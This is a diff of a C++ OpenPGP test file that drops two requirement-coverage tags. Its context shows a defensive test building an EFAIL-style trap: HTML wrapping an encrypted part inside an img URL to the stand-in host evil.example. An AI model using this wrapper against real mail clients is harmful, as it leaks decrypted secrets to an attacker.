@@ -260,7 +260,7 @@ void OpenPgpTest::refusesWhatCouldHaveBeenChanged()
 // Direct exfiltration: the secret would become part of an address in the HTML around it.
 void OpenPgpTest::opensAPartAloneAndOnlyWhenAsked()
 {
-    COVERS("SEC-88", "SEC-89");
+    COVERS("SEC-88");
     const QByteArray trap = multipart("mixed",
                                       {htmlPart("<img src=\"http://evil.example/"),
                                        pgpEncrypted(m_keys->encrypted(textPart(secret))), htmlPart("\">")});
@@ -375,7 +375,6 @@ void OpenPgpTest::boundsWhatComesOut()
 // not even know this one (tests/architecture).
 void OpenPgpTest::leavesNothingOnDisk()
 {
-    COVERS("SEC-35");
     const QTemporaryDir temporary;
     const QByteArray before = qgetenv("TMPDIR");
     qputenv("TMPDIR", QFile::encodeName(temporary.path()));
